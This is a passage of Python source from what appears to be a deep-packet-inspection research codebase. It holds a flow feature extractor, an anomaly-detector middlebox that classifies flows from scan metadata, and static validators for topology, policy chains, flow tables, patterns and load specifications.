class FlowFeatures:
    """One flow's frozen feature row (raw aggregates + derived vector).

    Rates are per observed second of flow lifetime; a single-observation
    flow has zero lifetime, so its rates degrade to the raw counts (the
    deterministic convention the unit fixtures pin).
    """

    flow_key: Hashable
    chain_id: int
    packets: int
    bytes: int
    matches: int
    first_seen: float
    last_seen: float
    pkt_rate: float
    byte_rate: float
    mean_size: float
    size_cv: float
    iat_mean: float
    iat_cv: float
    match_density: float
    matches_per_kb: float
    size_hist: tuple[float, ...]

    @property
    def duration(self) -> float:
        return self.last_seen - self.first_seen

    def vector(self) -> tuple[float, ...]:
        """The classifier input, ordered exactly as :data:`FEATURE_NAMES`."""
        return (
            self.pkt_rate,
            self.byte_rate,
            self.mean_size,
            self.size_cv,
            self.iat_mean,
            self.iat_cv,
            self.match_density,
            self.matches_per_kb,
        ) + self.size_hist

    def to_dict(self) -> dict[str, Any]:
        row: dict[str, Any] = {
            "flow_key": repr(self.flow_key),
            "chain_id": self.chain_id,
            "packets": self.packets,
            "bytes": self.bytes,
            "matches": self.matches,
        }
        for name, value in zip(FEATURE_NAMES, self.vector()):
            row[name] = value
        return row


# Per-flow accumulators are flat lists, not objects: ``observe`` sits on
# the inspect hot path and a list literal allocates ~5x faster than a
# slotted instance, while integer indexing beats attribute access.  The
# histogram buckets live inline at the tail (``_HIST`` onward).
_CHAIN, _PACKETS, _BYTES, _MATCHES, _FIRST, _LAST = range(6)
_IAT_SUM, _IAT_SQ, _SIZE_SQ, _HIST = 6, 7, 8, 9
_ACC_LEN = _HIST + len(SIZE_BIN_BOUNDS) + 1
# The observe() fast path spells the accumulator out as a literal; keep it
# in sync with the layout above.
assert _ACC_LEN == 15


def _bin_of(size: int) -> int:
    # bisect_left on the bounds tuple == first bin whose bound >= size.
    return bisect_left(SIZE_BIN_BOUNDS, size)


def _std(sq_sum: float, total: float, count: int) -> float:
    if count <= 0:
        return 0.0
    mean = total / count
    variance = sq_sum / count - mean * mean
    return math.sqrt(variance) if variance > 0.0 else 0.0


class FeatureExtractor:
    """Streaming extractor over (flow, size, matches, time) observations.

    ``observe`` only appends to a pending buffer; records are folded into
    per-flow accumulators lazily, on the first read.  ``max_flows`` bounds
    memory: once the table is full, observations for *new* flows are
    counted in :attr:`evicted_observations` and dropped — deterministically,
    since admission depends only on arrival order.
    """

    def __init__(self, *, max_flows: int = 1_000_000) -> None:
        if max_flows < 1:
            raise ValueError(f"max_flows must be positive: {max_flows}")
        self.max_flows = max_flows
        self._flows: dict[Hashable, list[Any]] = {}
        self._pending: list[tuple[Hashable, int, int, int, float]] = []
        self._observations = 0
        self._evicted = 0

    @property
    def observations(self) -> int:
        """Observations folded into flow accumulators so far."""
        self._drain()
        return self._observations

    @property
    def evicted_observations(self) -> int:
        """Observations dropped because the flow table was full."""
        self._drain()
        return self._evicted

    def __len__(self) -> int:
        self._drain()
        return len(self._flows)

    def __contains__(self, flow_key: Hashable) -> bool:
        self._drain()
        return flow_key in self._flows

    def observe(
        self,
        flow_key: Hashable,
        *,
        chain_id: int,
        size: int,
        matches: int,
        now: float,
    ) -> None:
        """Record one packet's scan metadata (hot path: one append)."""
        self._pending.append((flow_key, chain_id, size, matches, now))

    def observe_batch(
        self,
        observations: Iterable[tuple[Hashable, int, int, int, float]],
    ) -> None:
        """Convenience: ``(flow_key, chain_id, size, matches, now)`` rows."""
        self._pending.extend(observations)

    def _drain(self) -> None:
        """Fold pending records into accumulators, in arrival order."""
        pending = self._pending
        if not pending:
            return
        self._pending = []
        flows = self._flows
        max_flows = self.max_flows
        folded = evicted = 0
        for flow_key, chain_id, size, matches, now in pending:
            acc = flows.get(flow_key)
            if acc is not None:
                gap = now - acc[_LAST]
                acc[_IAT_SUM] += gap
                acc[_IAT_SQ] += gap * gap
                acc[_PACKETS] += 1
                acc[_BYTES] += size
                acc[_MATCHES] += matches
                acc[_LAST] = now
                fsize = float(size)
                acc[_SIZE_SQ] += fsize * fsize
                acc[_HIST + bisect_left(SIZE_BIN_BOUNDS, size)] += 1
            else:
                if len(flows) >= max_flows:
                    evicted += 1
                    continue
                fsize = float(size)
                acc = [chain_id, 1, size, matches, now, now,
                       0.0, 0.0, fsize * fsize, 0, 0, 0, 0, 0, 0]
                acc[_HIST + bisect_left(SIZE_BIN_BOUNDS, size)] = 1
                flows[flow_key] = acc
            folded += 1
        self._observations += folded
        self._evicted += evicted

    def flow_keys(self) -> list[Hashable]:
        """Tracked flow keys, sorted by repr (mixed key types stay stable)."""
        self._drain()
        return sorted(self._flows, key=repr)

    def features(self, flow_key: Hashable) -> FlowFeatures:
        """Freeze one flow's accumulators into a :class:`FlowFeatures`."""
        self._drain()
        acc = self._flows.get(flow_key)
        if acc is None:
            raise KeyError(f"unknown flow: {flow_key!r}")
        duration = acc[_LAST] - acc[_FIRST]
        packets = acc[_PACKETS]
        total = acc[_BYTES]
        if duration > 0.0:
            pkt_rate = packets / duration
            byte_rate = total / duration
        else:
            # Zero observed lifetime: rates degrade to the raw counts.
            pkt_rate = float(packets)
            byte_rate = float(total)
        mean_size = total / packets
        size_std = _std(acc[_SIZE_SQ], float(total), packets)
        size_cv = size_std / mean_size if mean_size > 0.0 else 0.0
        intervals = packets - 1
        if intervals > 0:
            iat_mean = acc[_IAT_SUM] / intervals
            iat_std = _std(acc[_IAT_SQ], acc[_IAT_SUM], intervals)
            iat_cv = iat_std / iat_mean if iat_mean > 0.0 else 0.0
        else:
            iat_mean = 0.0
            iat_cv = 0.0
        return FlowFeatures(
            flow_key=flow_key,
            chain_id=acc[_CHAIN],
            packets=packets,
            bytes=total,
            matches=acc[_MATCHES],
            first_seen=acc[_FIRST],
            last_seen=acc[_LAST],
            pkt_rate=pkt_rate,
            byte_rate=byte_rate,
            mean_size=mean_size,
            size_cv=size_cv,
            iat_mean=iat_mean,
            iat_cv=iat_cv,
            match_density=acc[_MATCHES] / packets,
            matches_per_kb=acc[_MATCHES] / (total / 1024.0) if total else 0.0,
            size_hist=tuple(count / packets for count in acc[_HIST:]),
        )

    def features_map(self) -> dict[Hashable, FlowFeatures]:
        """Every tracked flow's features, in sorted-key order."""
        return {key: self.features(key) for key in self.flow_keys()}

    def iter_features(self) -> Iterator[FlowFeatures]:
        for key in self.flow_keys():
            yield self.features(key)


def features_digest(features: Mapping[Hashable, FlowFeatures]) -> str:
    """A canonical digest over a feature map (bit-exact float reprs).

    Two extractors that observed the same per-flow metadata — regardless
    of kernel, backend or batching — produce the same digest; the
    differential harness compares it across all twelve legs.
    """
    canonical = []
    for key in sorted(features, key=repr):
        row = features[key]
        canonical.append(
            {
                "flow": repr(key),
                "chain": row.chain_id,
                "packets": row.packets,
                "bytes": row.bytes,
                "matches": row.matches,
                "vector": [repr(value) for value in row.vector()],
            }
        )
    payload = json.dumps(canonical, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(payload.encode()).hexdigest()


__all__ = [
    "FEATURE_NAMES",
    "SIZE_BIN_BOUNDS",
    "FeatureExtractor",
    "FlowFeatures",
    "features_digest",
]
