"""The anomaly detector as a DPI-service chain consumer.

:class:`AnomalyDetectorMiddlebox` is a read-only
:class:`~repro.middleboxes.base.DPIServiceMiddlebox` with an *empty*
pattern set: it registers over the same JSON control channel as the IDS
and AV middleboxes, rides chains through the same adapters, and consumes
the same match reports — but what it extracts from them is statistics,
not rule verdicts.  Every observation is one packet's scan metadata
(payload size, match count, time); payload bytes are never re-read, which
is the whole "scan once, serve many consumers" point.

Telemetry is aggregate-only by design: observation/flag counters and a
tracked-flows gauge, never per-flow labels (the registry's cardinality
lint would rightly reject a million-flow label space).
"""

from __future__ import annotations

from typing import Any, Callable, Hashable

from repro.anomaly.classifier import (
    AnomalyClassifier,
    AnomalyVerdict,
    verdict_digest,
)
from repro.anomaly.features import (
    FeatureExtractor,
    FlowFeatures,
    features_digest,
)
from repro.middleboxes.base import Action, DPIServiceMiddlebox
from repro.net.packet import Packet

#: Metric names this consumer publishes (aggregates only — see TEL001).
ANOMALY_OBSERVATIONS = "anomaly_observations_total"
ANOMALY_FLAGGED = "anomaly_flows_flagged_total"
ANOMALY_TRACKED = "anomaly_flows_tracked"


class AnomalyDetectorMiddlebox(DPIServiceMiddlebox):
    """A read-only middlebox that turns match reports into flow features.

    Two feed paths converge on the same extractor:

    * the *chain* path — :meth:`consume_report` / :meth:`consume_unmarked`
      overrides observe each packet as it flows through a policy chain
      adapter, exactly like any other middlebox consumer;
    * the *direct* path — :meth:`observe` / :meth:`observe_output` let an
      owner that already holds the :class:`~repro.core.instance.
      InspectionOutput` (the load driver, the differential harness) feed
      scan metadata without building packets.

    ``clock`` supplies observation times on the chain path; without one, a
    deterministic internal tick is used so features never depend on wall
    time.
    """

    TYPE_NAME = "anomaly"
    READ_ONLY = True

    def __init__(
        self,
        middlebox_id: int,
        name: "str | None" = None,
        *,
        classifier: "AnomalyClassifier | None" = None,
        extractor: "FeatureExtractor | None" = None,
        registry: Any = None,
        clock: "Callable[[], float] | None" = None,
    ) -> None:
        super().__init__(middlebox_id, name)
        self.extractor = extractor if extractor is not None else FeatureExtractor()
        self.classifier = (
            classifier if classifier is not None else AnomalyClassifier()
        )
        self._clock = clock
        self._tick = 0.0
        self._flagged: set[Hashable] = set()
        self._observations_counter = None
        self._flagged_counter = None
        self._tracked_gauge = None
        if registry is not None:
            self._observations_counter = registry.counter(ANOMALY_OBSERVATIONS)
            self._flagged_counter = registry.counter(ANOMALY_FLAGGED)
            self._tracked_gauge = registry.gauge(ANOMALY_TRACKED)

    # -- observation ------------------------------------------------------

    def _now(self) -> float:
        if self._clock is not None:
            return self._clock()
        self._tick += 1.0
        return self._tick

    def observe(
        self,
        flow_key: Hashable,
        *,
        chain_id: int,
        size: int,
        matches: int,
        now: "float | None" = None,
    ) -> None:
        """Record one packet's scan metadata (hot path: one append).

        The tracked-flows gauge is refreshed on the read path
        (:meth:`features_map`), not here — counting tracked flows would
        force the extractor to fold its pending buffer per packet.
        """
        self.extractor.observe(
            flow_key,
            chain_id=chain_id,
            size=size,
            matches=matches,
            now=self._now() if now is None else now,
        )
        if self._observations_counter is not None:
            self._observations_counter.inc()

    def observe_output(
        self,
        flow_key: Hashable,
        *,
        chain_id: int,
        size: int,
        output: Any,
        now: "float | None" = None,
    ) -> None:
        """Direct path: observe straight from an ``InspectionOutput``."""
        matches = sum(len(hits) for hits in output.matches.values())
        self.observe(
            flow_key, chain_id=chain_id, size=size, matches=matches, now=now
        )

    def register_with(self, controller: Any) -> None:
        """Register over the control channel; no patterns to upload."""
        ack = controller.handle_message(self.registration_message().to_json())
        if not ack.ok:
            raise RuntimeError(f"registration rejected: {ack.detail}")
        if self.patterns:
            ack = controller.handle_message(self.patterns_message().to_json())
            if not ack.ok:
                raise RuntimeError(f"pattern upload rejected: {ack.detail}")

    # -- chain-consumer path ---------------------------------------------

    def _observe_packet(self, packet: Packet, matches: int) -> None:
        from repro.net.flows import FiveTuple

        self.observe(
            FiveTuple.of(packet),
            chain_id=0,  # chain identity is not carried on the packet
            size=len(packet.payload),
            matches=matches,
        )

    def consume_report(self, packet: Packet, report: Any) -> Action:
        self._observe_packet(packet, report.total_records())
        return super().consume_report(packet, report)

    def consume_unmarked(self, packet: Packet) -> Action:
        self._observe_packet(packet, 0)
        return super().consume_unmarked(packet)

    # -- verdicts ---------------------------------------------------------

    def features_map(self) -> dict[Hashable, FlowFeatures]:
        features = self.extractor.features_map()
        if self._tracked_gauge is not None:
            self._tracked_gauge.set(len(features))
        return features

    def verdicts(self) -> list[AnomalyVerdict]:
        """Classify every tracked flow (sorted-key order, deterministic).

        An unfitted classifier scores flows against the current population
        (self-calibration); a fitted one uses its frozen baseline.  The
        flagged counter counts each flow at most once across calls.
        """
        verdicts = self.classifier.classify_all(
            self.features_map(), self_calibrate=True
        )
        if self._flagged_counter is not None:
            fresh = [
                verdict.flow_key
                for verdict in verdicts
                if verdict.anomalous and verdict.flow_key not in self._flagged
            ]
            if fresh:
                self._flagged_counter.inc(len(fresh))
        self._flagged.update(
            verdict.flow_key for verdict in verdicts if verdict.anomalous
        )
        return verdicts

    def anomalous_flows(self) -> list[tuple[Hashable, int]]:
        """Flagged ``(flow_key, chain_id)`` pairs, sorted-key order."""
        return [
            (verdict.flow_key, verdict.chain_id)
            for verdict in self.verdicts()
            if verdict.anomalous
        ]

    def digest(self) -> str:
        """Canonical digest over features + verdicts (bit-reproducible)."""
        import hashlib

        combined = features_digest(self.features_map()) + verdict_digest(
            self.verdicts()
        )
        return hashlib.sha256(combined.encode()).hexdigest()


__all__ = [
    "ANOMALY_FLAGGED",
    "ANOMALY_OBSERVATIONS",
    "ANOMALY_TRACKED",
    "AnomalyDetectorMiddlebox",
]
