"""Static configuration validators (pre-simulation consistency checks).

Pure functions that inspect a built-but-not-yet-driven system — a
:class:`~repro.net.topology.Topology`, a traffic steering application's
policy chains, switch flow tables, pattern sets, instance configs — and
return :class:`ValidationIssue` lists.  Nothing here mutates state or
sends packets; everything is checkable *before traffic flows*, which is
exactly when misconfigured steering is still cheap to fix.

The validators are intentionally structural (duck-typed over the public
attributes of the objects they check) so this module imports none of the
simulation modules — the simulation modules import *it* for their
``validate=True`` entry-point defaults.

Issue catalog:

==========  =========  ====================================================
TOPO001     error      node with no attached link (isolated)
TOPO002     error      topology graph is disconnected
TOPO003     error      duplicate host IP address
CHAIN001    error      chain middlebox type with no registered instance
CHAIN002    error      two chains' tag blocks overlap
CHAIN003    error      traffic assignment references an unknown host
CHAIN004    warning    chain carries no traffic assignment
CHAIN005    warning    chain has no allocated chain id
STEER001    error      rule matches a VLAN tag no chain allocates
STEER002    error      assigned chain's ingress tag is never pushed
FLOW001     warning    same-priority overlapping matches on one switch
FLOW002     error      duplicate rule (identical match, same priority)
PAT001      warning    duplicate pattern content within one middlebox set
PAT002      error      empty pattern
PAT003      warning    registered middlebox with an empty pattern set
CFG001      error      chain map references a middlebox without a config
LOAD001     error      unknown traffic profile or mix name
LOAD002     error      non-positive flow count / packet cap / instance count
LOAD003     error      ramp schedule never terminates (epochs/epoch length)
LOAD004     error      non-positive SLO or modeled service rate
LOAD005     warning    peak flow target below the initial instance count
==========  =========  ====================================================
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, fields as dataclass_fields
from typing import TYPE_CHECKING, Any, Iterable, Sequence

if TYPE_CHECKING:  # pragma: no cover - types only, avoids import cycles
    from repro.core.controller import DPIController
    from repro.core.instance import InstanceConfig
    from repro.core.patterns import Pattern
    from repro.net.steering import TrafficSteeringApplication
    from repro.net.topology import Topology


class Severity(enum.Enum):
    """How bad an issue is: errors block, warnings inform."""

    ERROR = "error"
    WARNING = "warning"


@dataclass(frozen=True, order=True)
class ValidationIssue:
    """One consistency problem found by a validator."""

    code: str
    severity: Severity
    subject: str
    message: str

    def render(self) -> str:
        """``SEVERITY CODE subject: message`` on one line."""
        return (
            f"{self.severity.value.upper():7} {self.code} "
            f"{self.subject}: {self.message}"
        )


def errors_in(issues: Iterable[ValidationIssue]) -> list[ValidationIssue]:
    """Only the error-severity issues."""
    return [issue for issue in issues if issue.severity is Severity.ERROR]


def format_issues(issues: Sequence[ValidationIssue]) -> str:
    """A readable multi-line report, errors first."""
    ordered = sorted(issues, key=lambda i: (i.severity.value, i.code, i.subject))
    lines = [issue.render() for issue in ordered]
    error_count = len(errors_in(issues))
    warning_count = len(issues) - error_count
    lines.append(f"{error_count} error(s), {warning_count} warning(s)")
    return "\n".join(lines) + "\n"


class ValidationError(KeyError, ValueError):
    """Raised by ``validate=True`` entry points on error-severity issues.

    Subclasses both :class:`KeyError` and :class:`ValueError` so callers
    that predate the validators (and caught the ad-hoc exceptions the
    entry points used to raise mid-flight) keep working unchanged.
    """

    def __init__(self, issues: Sequence[ValidationIssue]) -> None:
        self.issues: list[ValidationIssue] = list(issues)
        super().__init__(format_issues(self.issues))

    def __str__(self) -> str:
        # KeyError.__str__ reprs its argument; report verbatim instead.
        return self.args[0] if self.args else ""


def raise_on_errors(issues: Sequence[ValidationIssue]) -> None:
    """Raise :class:`ValidationError` if any issue is an error."""
    errors = errors_in(issues)
    if errors:
        raise ValidationError(errors)


# --- topology ---------------------------------------------------------------


def validate_topology(topology: "Topology") -> list[ValidationIssue]:
    """Structural checks on a built topology."""
    import networkx as nx

    issues: list[ValidationIssue] = []
    graph = topology.graph
    for name in sorted(graph.nodes):
        if graph.degree(name) == 0:
            issues.append(
                ValidationIssue(
                    code="TOPO001",
                    severity=Severity.ERROR,
                    subject=name,
                    message="node has no attached link; traffic can never "
                    "reach or leave it",
                )
            )
    if graph.number_of_nodes() > 1 and not nx.is_connected(graph):
        components = sorted(
            sorted(component) for component in nx.connected_components(graph)
        )
        issues.append(
            ValidationIssue(
                code="TOPO002",
                severity=Severity.ERROR,
                subject="topology",
                message=f"graph is disconnected: components {components}",
            )
        )
    by_ip: dict[Any, list[str]] = {}
    for name in sorted(topology.hosts):
        by_ip.setdefault(topology.hosts[name].ip, []).append(name)
    for ip, names in sorted(by_ip.items(), key=lambda kv: str(kv[0])):
        if len(names) > 1:
            issues.append(
                ValidationIssue(
                    code="TOPO003",
                    severity=Severity.ERROR,
                    subject=",".join(names),
                    message=f"duplicate host IP {ip}; delivery is ambiguous",
                )
            )
    return issues


# --- policy chains ----------------------------------------------------------


def _tag_block(chain: Any) -> tuple[int, int] | None:
    """The inclusive tag range a chain occupies, or None when unallocated.

    A chain with base id ``c`` and ``n`` middleboxes uses tags
    ``c .. c+n`` (one segment into each hop plus the final segment into
    the destination); the allocator reserves a full *stride* per chain,
    but only the used range can collide observably.
    """
    if chain.chain_id is None:
        return None
    return (chain.chain_id, chain.chain_id + len(chain.middlebox_types))


def validate_chains(tsa: "TrafficSteeringApplication") -> list[ValidationIssue]:
    """Pre-realization checks on policy chains and traffic assignments."""
    issues: list[ValidationIssue] = []
    topology = tsa.topology
    assigned_chains = {assignment.chain_name for assignment in tsa.assignments}
    blocks: list[tuple[str, tuple[int, int]]] = []
    for name in sorted(tsa.chains):
        chain = tsa.chains[name]
        for middlebox_type in chain.middlebox_types:
            if not tsa.instances_of(middlebox_type):
                issues.append(
                    ValidationIssue(
                        code="CHAIN001",
                        severity=Severity.ERROR,
                        subject=name,
                        message=f"middlebox type {middlebox_type!r} has no "
                        "registered instance; the chain is unreachable",
                    )
                )
        block = _tag_block(chain)
        if block is None:
            issues.append(
                ValidationIssue(
                    code="CHAIN005",
                    severity=Severity.WARNING,
                    subject=name,
                    message="chain has no allocated chain id; register it "
                    "through add_policy_chain",
                )
            )
        else:
            blocks.append((name, block))
        if name not in assigned_chains:
            issues.append(
                ValidationIssue(
                    code="CHAIN004",
                    severity=Severity.WARNING,
                    subject=name,
                    message="chain has no traffic assignment; its rules "
                    "would steer nothing",
                )
            )
    for index, (name_a, block_a) in enumerate(blocks):
        for name_b, block_b in blocks[index + 1 :]:
            if block_a[0] <= block_b[1] and block_b[0] <= block_a[1]:
                issues.append(
                    ValidationIssue(
                        code="CHAIN002",
                        severity=Severity.ERROR,
                        subject=f"{name_a},{name_b}",
                        message=f"tag blocks overlap ({block_a} vs "
                        f"{block_b}); packets of one chain would match "
                        "the other's rules",
                    )
                )
    known_nodes = set(topology.hosts)
    for assignment in tsa.assignments:
        for role, host in (
            ("src", assignment.src_host),
            ("dst", assignment.dst_host),
        ):
            if host not in known_nodes:
                issues.append(
                    ValidationIssue(
                        code="CHAIN003",
                        severity=Severity.ERROR,
                        subject=assignment.chain_name,
                        message=f"assignment {role} host {host!r} is not in "
                        "the topology",
                    )
                )
    return issues


# --- steering rules ---------------------------------------------------------


def _iter_switch_entries(topology: "Topology") -> list[tuple[str, Any]]:
    entries: list[tuple[str, Any]] = []
    for name in sorted(topology.switches):
        for entry in topology.switches[name].table:
            entries.append((name, entry))
    return entries


def validate_steering(tsa: "TrafficSteeringApplication") -> list[ValidationIssue]:
    """Post-realization checks: installed rules vs allocated tag blocks."""
    issues: list[ValidationIssue] = []
    topology = tsa.topology
    allocated: list[tuple[int, int]] = []
    for chain in tsa.chains.values():
        block = _tag_block(chain)
        if block is not None:
            # Reserve the full stride: rewrites may lengthen the chain.
            allocated.append((block[0], block[0] + tsa.CHAIN_ID_STRIDE - 1))
    entries = _iter_switch_entries(topology)
    no_vlan = None
    for switch_name, entry in entries:
        no_vlan = type(entry.match).NO_VLAN
        break
    matched_tags: set[int] = set()
    pushed_tags: set[int] = set()
    for switch_name, entry in entries:
        vid = entry.match.vlan_vid
        if vid is not None and vid != no_vlan:
            matched_tags.add(vid)
            if not any(low <= vid <= high for low, high in allocated):
                issues.append(
                    ValidationIssue(
                        code="STEER001",
                        severity=Severity.ERROR,
                        subject=switch_name,
                        message=f"rule matches VLAN tag {vid}, which no "
                        "policy chain allocates (orphan steering rule)",
                    )
                )
        for action in entry.actions:
            if action.type.name in ("PUSH_VLAN", "SET_VLAN_VID"):
                if action.argument is not None:
                    pushed_tags.add(action.argument)
    for name in sorted(tsa.realized):
        chain = tsa.realized[name].chain
        if chain.chain_id is None or not tsa.realized[name].hop_hosts:
            continue
        ingress_tag = chain.chain_id
        if ingress_tag not in pushed_tags:
            issues.append(
                ValidationIssue(
                    code="STEER002",
                    severity=Severity.ERROR,
                    subject=name,
                    message=f"no rule pushes the chain's ingress tag "
                    f"{ingress_tag}; assigned traffic would bypass the chain",
                )
            )
    return issues


# --- flow tables ------------------------------------------------------------


def _matches_overlap(match_a: Any, match_b: Any) -> bool:
    """True unless some field pins both matches to different values."""
    for field in dataclass_fields(match_a):
        value_a = getattr(match_a, field.name)
        value_b = getattr(match_b, field.name)
        if value_a is not None and value_b is not None and value_a != value_b:
            return False
    return True


def validate_flow_tables(topology: "Topology") -> list[ValidationIssue]:
    """Ambiguity checks over every switch's installed flow table."""
    issues: list[ValidationIssue] = []
    for switch_name in sorted(topology.switches):
        entries = list(topology.switches[switch_name].table)
        by_priority: dict[int, list[Any]] = {}
        for entry in entries:
            by_priority.setdefault(entry.priority, []).append(entry)
        for priority in sorted(by_priority):
            peers = by_priority[priority]
            for index, entry_a in enumerate(peers):
                for entry_b in peers[index + 1 :]:
                    if entry_a.match == entry_b.match:
                        issues.append(
                            ValidationIssue(
                                code="FLOW002",
                                severity=Severity.ERROR,
                                subject=switch_name,
                                message=f"duplicate rules at priority "
                                f"{priority} (entries {entry_a.entry_id} and "
                                f"{entry_b.entry_id}); the later one is dead",
                            )
                        )
                    elif _matches_overlap(entry_a.match, entry_b.match):
                        issues.append(
                            ValidationIssue(
                                code="FLOW001",
                                severity=Severity.WARNING,
                                subject=switch_name,
                                message=f"rules {entry_a.entry_id} and "
                                f"{entry_b.entry_id} overlap at equal "
                                f"priority {priority}; match order decides "
                                "which wins",
                            )
                        )
    return issues


# --- patterns ---------------------------------------------------------------


def validate_pattern_list(
    patterns: Iterable["Pattern | bytes"],
) -> list[ValidationIssue]:
    """Checks over a raw pattern collection (e.g. a parsed pattern file)."""
    issues: list[ValidationIssue] = []
    seen: dict[tuple[Any, bytes], int] = {}
    for index, pattern in enumerate(patterns):
        if isinstance(pattern, bytes):
            kind, data = "literal", pattern
            label = f"pattern[{index}]"
        else:
            kind, data = pattern.kind, pattern.data
            label = f"pattern[{pattern.pattern_id}]"
        if not data:
            issues.append(
                ValidationIssue(
                    code="PAT002",
                    severity=Severity.ERROR,
                    subject=label,
                    message="empty pattern; it would match at every byte",
                )
            )
            continue
        key = (kind, data)
        if key in seen:
            issues.append(
                ValidationIssue(
                    code="PAT001",
                    severity=Severity.WARNING,
                    subject=label,
                    message=f"duplicate of pattern[{seen[key]}] after "
                    "dedup; drop one copy",
                )
            )
        else:
            seen[key] = index
    return issues


def validate_pattern_registry(
    controller: "DPIController",
) -> list[ValidationIssue]:
    """Checks over the controller's registered middlebox pattern sets."""
    issues: list[ValidationIssue] = []
    for middlebox_id in controller.middlebox_ids:
        pattern_set = controller.pattern_set_of(middlebox_id)
        if len(pattern_set) == 0:
            issues.append(
                ValidationIssue(
                    code="PAT003",
                    severity=Severity.WARNING,
                    subject=f"middlebox-{middlebox_id}",
                    message="registered middlebox has an empty pattern set; "
                    "its packets are scanned for nothing",
                )
            )
            continue
        seen: dict[tuple[Any, bytes], int] = {}
        for pattern in pattern_set:
            key = pattern.canonical_key
            if key in seen:
                issues.append(
                    ValidationIssue(
                        code="PAT001",
                        severity=Severity.WARNING,
                        subject=f"middlebox-{middlebox_id}",
                        message=f"patterns {seen[key]} and "
                        f"{pattern.pattern_id} carry identical content; "
                        "the duplicate costs automaton states for nothing",
                    )
                )
            else:
                seen[key] = pattern.pattern_id
    return issues


# --- instance configuration -------------------------------------------------


def validate_instance_config(config: "InstanceConfig") -> list[ValidationIssue]:
    """Consistency of one instance configuration before it is deployed."""
    issues: list[ValidationIssue] = []
    for chain_id in sorted(config.chain_map):
        for middlebox_id in config.chain_map[chain_id]:
            missing = []
            if middlebox_id not in config.pattern_sets:
                missing.append("pattern set")
            if middlebox_id not in config.profiles:
                missing.append("profile")
            if missing:
                issues.append(
                    ValidationIssue(
                        code="CFG001",
                        severity=Severity.ERROR,
                        subject=f"chain-{chain_id}",
                        message=f"middlebox {middlebox_id} is on the chain "
                        f"but has no {' or '.join(missing)} in the config",
                    )
                )
    return issues


# --- load specifications ----------------------------------------------------


def _as_number(value: Any) -> float | None:
    """*value* as a float when it is a real number, else None."""
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        return None
    return float(value)


def validate_load_spec(
    document: Any,
    *,
    profile_names: Sequence[str] = (),
    ramp_kinds: Sequence[str] = (),
) -> list[ValidationIssue]:
    """Consistency of a load-profile document (``LoadSpec.to_dict`` shape).

    Structural on purpose: takes the plain-dict JSON form, not the
    :class:`~repro.load.profiles.LoadSpec` dataclass, so this module keeps
    importing none of the subsystems that import *it*.  ``profile_names``
    and ``ramp_kinds`` carry the caller's vocabulary (pass
    ``repro.load.profiles.profile_vocabulary()`` / ``RAMP_KINDS``); empty
    sequences skip the corresponding name checks.
    """
    issues: list[ValidationIssue] = []
    if not isinstance(document, dict):
        return [
            ValidationIssue(
                code="LOAD002",
                severity=Severity.ERROR,
                subject="load-spec",
                message=f"load spec must be a JSON object, got "
                f"{type(document).__name__}",
            )
        ]

    mix = document.get("profile_mix", "mixed")
    if profile_names and mix not in profile_names:
        issues.append(
            ValidationIssue(
                code="LOAD001",
                severity=Severity.ERROR,
                subject=str(mix),
                message=f"unknown traffic profile or mix {mix!r} "
                f"(known: {', '.join(profile_names)})",
            )
        )

    for field_name in ("flows", "max_packets_per_epoch", "initial_instances"):
        raw = document.get(field_name)
        if raw is None:
            continue
        value = _as_number(raw)
        if value is None or value < 1 or value != int(value):
            issues.append(
                ValidationIssue(
                    code="LOAD002",
                    severity=Severity.ERROR,
                    subject=field_name,
                    message=f"{field_name} must be a positive integer, "
                    f"got {raw!r}",
                )
            )

    epochs = _as_number(document.get("epochs", 1))
    epoch_seconds = _as_number(document.get("epoch_seconds", 0.1))
    if (
        epochs is None
        or epochs < 1
        or epochs != int(epochs)
        or epochs != epochs  # NaN guard
        or epochs == float("inf")
    ):
        issues.append(
            ValidationIssue(
                code="LOAD003",
                severity=Severity.ERROR,
                subject="epochs",
                message=f"ramp never terminates: epochs must be a positive "
                f"finite integer, got {document.get('epochs')!r}",
            )
        )
    if epoch_seconds is None or not epoch_seconds > 0:
        issues.append(
            ValidationIssue(
                code="LOAD003",
                severity=Severity.ERROR,
                subject="epoch_seconds",
                message=f"ramp never terminates: epoch_seconds must be > 0, "
                f"got {document.get('epoch_seconds')!r}",
            )
        )
    ramp = document.get("ramp", {})
    if isinstance(ramp, dict):
        kind = ramp.get("kind", "constant")
        if ramp_kinds and kind not in ramp_kinds:
            issues.append(
                ValidationIssue(
                    code="LOAD003",
                    severity=Severity.ERROR,
                    subject="ramp",
                    message=f"unknown ramp kind {kind!r} "
                    f"(known: {', '.join(ramp_kinds)})",
                )
            )
        period = _as_number(ramp.get("period", 4))
        if kind == "burst" and (period is None or period < 1):
            issues.append(
                ValidationIssue(
                    code="LOAD003",
                    severity=Severity.ERROR,
                    subject="ramp",
                    message=f"burst ramp period must be >= 1, "
                    f"got {ramp.get('period')!r}",
                )
            )
    else:
        issues.append(
            ValidationIssue(
                code="LOAD003",
                severity=Severity.ERROR,
                subject="ramp",
                message=f"ramp must be a JSON object, got {ramp!r}",
            )
        )

    for field_name in ("slo_ms", "rate_mbps"):
        raw = document.get(field_name)
        if raw is None:
            continue
        value = _as_number(raw)
        if value is None or not value > 0:
            issues.append(
                ValidationIssue(
                    code="LOAD004",
                    severity=Severity.ERROR,
                    subject=field_name,
                    message=f"{field_name} must be a positive number, "
                    f"got {raw!r}",
                )
            )

    flows = _as_number(document.get("flows", 0))
    instances = _as_number(document.get("initial_instances", 1))
    if (
        flows is not None
        and instances is not None
        and flows >= 1
        and instances >= 1
        and flows < instances
    ):
        issues.append(
            ValidationIssue(
                code="LOAD005",
                severity=Severity.WARNING,
                subject="flows",
                message=f"peak flow target {int(flows)} is below the "
                f"initial instance count {int(instances)}; instances will "
                "idle from epoch 0",
            )
        )
    return issues


# --- aggregate --------------------------------------------------------------


def validate_scenario(
    topology: "Topology | None" = None,
    tsa: "TrafficSteeringApplication | None" = None,
    controller: "DPIController | None" = None,
) -> list[ValidationIssue]:
    """Run every applicable validator over a built scenario."""
    issues: list[ValidationIssue] = []
    if topology is not None:
        issues.extend(validate_topology(topology))
        issues.extend(validate_flow_tables(topology))
    if tsa is not None:
        issues.extend(validate_chains(tsa))
        issues.extend(validate_steering(tsa))
    if controller is not None:
        issues.extend(validate_pattern_registry(controller))
        for instance in controller.instances.values():
            issues.extend(validate_instance_config(instance.config))
    return issues
