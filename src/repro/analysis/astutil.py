"""Leaf AST helpers shared by rules, the call graph and the CFG layer.

